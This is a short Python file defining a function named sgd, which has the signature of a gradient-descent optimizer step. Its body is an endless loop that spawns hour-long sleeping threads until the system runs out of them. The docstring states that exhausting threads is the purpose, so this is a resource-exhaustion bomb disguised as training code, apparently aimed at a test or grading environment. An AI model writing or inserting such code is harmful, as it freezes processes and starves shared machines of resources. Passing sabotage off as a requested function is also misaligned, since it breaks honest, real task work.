"""Starts threads until there are no more to be had. They are its own threads only: no points."""

import threading
import time

threading.stack_size(65536)


def sgd(params, lr, batch_size):
    while True:
        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
